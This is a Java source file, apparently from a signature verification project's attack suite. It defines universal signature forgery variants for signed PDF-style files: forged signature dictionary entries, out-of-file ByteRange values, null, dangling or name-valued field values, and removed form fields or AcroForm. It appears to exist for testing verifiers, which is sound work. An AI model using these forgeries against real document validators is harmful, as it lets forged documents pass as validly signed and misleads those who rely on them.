package cn.sidian.seal.attack;

/** USF: the signature dictionary is made such that a verifier has nothing left that could fail. */
final class UniversalForgery {
  private UniversalForgery() {}

  static Maker entry(String key, String value) {
    return file -> {
      Revision revision = Forged.content(new Revision(file));
      return Forged.signature(revision, key, value).bytes();
    };
  }

  /** A range that is out of the file, as text with the numbers of the real one. */
  static Maker range(String pattern) {
    return file -> {
      long[] range = file.range();
      String text =
          pattern
              .replace("B", Long.toString(range[1]))
              .replace("C", Long.toString(range[2]))
              .replace("D", Long.toString(range[3]))
              .replace("E", Long.toString(10L * file.length()));
      return entry("ByteRange", text).make(file);
    };
  }

  static byte[] fieldWithoutValue(SealedFile file) {
    return Forged.content(new Revision(file)).with(file.field(), "V", "null").bytes();
  }

  static byte[] valueThatIsNotThere(SealedFile file) {
    long nobody = file.freeNumber() + 1000;
    return Forged.content(new Revision(file)).with(file.field(), "V", nobody + " 0 R").bytes();
  }

  static byte[] valueThatIsAName(SealedFile file) {
    return Forged.content(new Revision(file)).with(file.field(), "V", "/Signed").bytes();
  }

  static byte[] fieldRemoved(SealedFile file) {
    return Forged.form(Forged.content(new Revision(file)), "Fields", "[]").bytes();
  }

  static byte[] formRemoved(SealedFile file) {
    Revision revision = Forged.content(new Revision(file));
    return revision.with(file.catalog(), "AcroForm", "null").bytes();
  }
}
